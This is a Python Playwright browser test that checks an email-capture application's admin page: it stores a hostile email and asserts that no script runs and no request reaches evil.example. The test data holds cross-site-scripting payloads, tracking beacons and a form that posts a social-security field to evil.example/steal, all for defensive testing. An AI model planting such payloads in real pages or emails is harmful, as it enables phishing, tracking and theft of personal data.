"""Hostile email, logged and opened: no script runs, nothing leaves for elsewhere.

The message goes the real way: a capture through the API, processed by the worker's
service (normalizing and sanitizing), then opened on the admin page in Chromium.
"""

from __future__ import annotations

from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, Request, Route, expect

from interactions.models import CaptureStatus
from tests.browser.conftest import ARTIFACTS, TIMEOUT_MS, Served, Worker
from tests.conftest import USERS, Factory, TokenSource

SCRIPT_SUBJECT = '<script>alert("subject")</script><img src=x onerror=alert(1)>'
SCRIPT_NAME = '<svg onload=alert("name")>'
HOSTILE_HTML = """
<style>body { background: url(https://evil.example/css-beacon) }</style>
<p>Quarterly statement attached.</p>
<script>alert("body")</script>
<img src="https://evil.example/pixel.png" alt="logo">
<img src=x onerror="alert('onerror')">
<svg><script>alert("svg")</script>
<a xlink:href="javascript:alert('svg-link')">x</a></svg>
<a href="javascript:alert('link')">Open your statement</a>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/steal"><input name="ssn"></form>
<div style="background-image: url('https://evil.example/inline-beacon')">styled</div>
<link rel="stylesheet" href="https://evil.example/sheet.css">
"""
LOCAL_HOSTS = {"localhost", "127.0.0.1"}


@pytest.fixture
def guarded_page(browser: Browser) -> Iterator[tuple[Page, list[str], list[str]]]:
    """A page whose every request to another host is refused and recorded, and
    whose every dialog (what alert() opens) is recorded."""
    context = browser.new_context(ignore_https_errors=True)
    context.set_default_timeout(TIMEOUT_MS)
    escaped: list[str] = []
    dialogs: list[str] = []

    def guard(route: Route, request: Request) -> None:
        if urlsplit(request.url).hostname in LOCAL_HOSTS:
            route.continue_()
        else:
            escaped.append(request.url)
            route.abort()

    context.route("**/*", guard)
    page = context.new_page()
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("pageerror", lambda error: dialogs.append(f"error: {error}"))
    yield page, escaped, dialogs
    context.close()


def test_a_hostile_email_runs_no_script_and_calls_nowhere(
    guarded_page: tuple[Page, list[str], list[str]],
    served: Served,
    worker: Worker,
    tokens: TokenSource,
    make: Factory,
) -> None:
    page, escaped, dialogs = guarded_page
    plan = make.plan(make.client("Contoso Manufacturing"), "Contoso 401(k) Plan")
    capture = served.app.test_client().post(
        "/api/v1/captures",
        headers={"Authorization": f"Bearer {tokens('admin')}"},
        json={
            "type_id": make.type("Email").id,
            "title": SCRIPT_SUBJECT,
            "links": [{"record_type": "plan", "record_id": plan.id}],
            "item": {
                "internet_message_id": "<hostile-1@evil.example>",
                "subject": SCRIPT_SUBJECT,
                "from": {"address": "attacker@evil.example", "name": SCRIPT_NAME},
                "to": [{"address": "admin@acme.test", "name": "Admin"}],
                "sent_at": "2026-11-30T14:05:00+00:00",
                "body_html": HOSTILE_HTML,
            },
        },
    )
    assert capture.status_code == 202, capture.json
    assert worker.run() == [CaptureStatus.STORED]
    site = served.url.replace("127.0.0.1", "localhost")

    page.goto(f"{site}/sign-in?next=/records/plan/{plan.id}")
    page.get_by_role("button", name=USERS["admin"].email).click()
    expect(page.get_by_role("table")).to_contain_text('<script>alert("subject")')
    # The slider shows the title as text too, in its panel over the page.
    page.get_by_role("link", name=f"Edit {SCRIPT_SUBJECT}").click()
    slider = page.get_by_role("dialog", name="Edit Interaction")
    title = slider.get_by_role("textbox", name="Title", exact=True)
    expect(title).to_have_value(SCRIPT_SUBJECT)
    slider.get_by_role("link", name="Close").click()
    page.get_by_role("link", name=SCRIPT_SUBJECT, exact=True).click()
    frame = page.frame_locator("iframe.email")
    expect(frame.get_by_text("Quarterly statement attached.")).to_be_visible()
    page.screenshot(path=str(ARTIFACTS / "admin-hostile-email.png"), full_page=True)

    assert dialogs == []
    assert escaped == []

    # Remote images only on request: then, and only then, the pixel is asked for.
    page.get_by_role("link", name="Show remote images").click()
    expect(frame.get_by_text("Quarterly statement attached.")).to_be_visible()
    page.wait_for_timeout(300)
    assert dialogs == []
    assert all(urlsplit(url).hostname == "evil.example" for url in escaped)
    assert not any("steal" in url or "frame" in url for url in escaped)
